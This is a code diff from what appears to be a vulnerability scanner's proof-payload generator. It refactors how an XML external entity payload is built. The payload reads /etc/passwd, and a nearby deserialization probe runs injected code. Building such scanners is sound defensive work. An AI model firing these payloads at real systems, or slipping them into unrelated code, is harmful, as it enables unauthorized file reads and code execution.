@@ -5,6 +5,7 @@
 import type { ExpectedInput, Finding } from '#engine/findings/finding.ts';
 import { FACTORS, PRODUCT, shows, TO_BE_SEEN, type NoPayload, type Payload, type PayloadContext, type PayloadMaker } from '#engine/report/proof/payload.ts';
 import { MARKER, OUTCOME_PAYLOADS } from '#engine/report/proof/outcome-payloads.ts';
+import { document } from '#engine/report/proof/document-text.ts';
 import { headerPayload, logPayload, pathPayload, redirectPayload, requestPayload, scriptAddressPayload, scriptPayload } from '#engine/report/proof/place-payloads.ts';
 import { codePayload, commandPayload, ldapPayload, nosqlPayload, sqlPayload, templatePayload, xpathPayload } from '#engine/report/proof/statement-payloads.ts';
 import { sinkHop } from '#engine/report/report-finding.ts';
@@ -56,17 +57,8 @@ const deserializationPayload: PayloadMaker = ({ finding }) => {
     : { text: `{"probe":"_$$ND_FUNC$$_${code}()"}`, also: `{"probe":"_$$ND_FUNC$$_function(){throw Error(${FACTORS})}()"}`, effect: RAN_AS_CODE, expected: shows(PRODUCT) };
 };
 
-const ENTITY = '&e;';
-
-/** The entity within each of the elements, as a tree of them; where there is none, as it is. */
-function entityWithin(paths: readonly (readonly string[])[]): string {
-  const names = new Set(paths.map(([name = '']) => name));
-  if (paths.some((path) => path.length === 0)) return ENTITY;
-  return [...names].map((name) => `<${name}>${entityWithin(paths.filter(([first]) => first === name).map((path) => path.slice(1)))}</${name}>`).join('');
-}
-
 const entityPayload: PayloadMaker = ({ finding: { elements = [] } }) => ({
-  text: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>${elements.length > 0 ? entityWithin(elements) : ENTITY}</r>`, contentType: 'application/xml',
+  text: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${document(elements.map((path) => ({ path, text: '&e;' })), '&e;')}`, contentType: 'application/xml',
   effect: 'The content of `/etc/passwd` stands where the entity was: the parser read the file.', expected: shows('root:x:0:0'),
 });
 
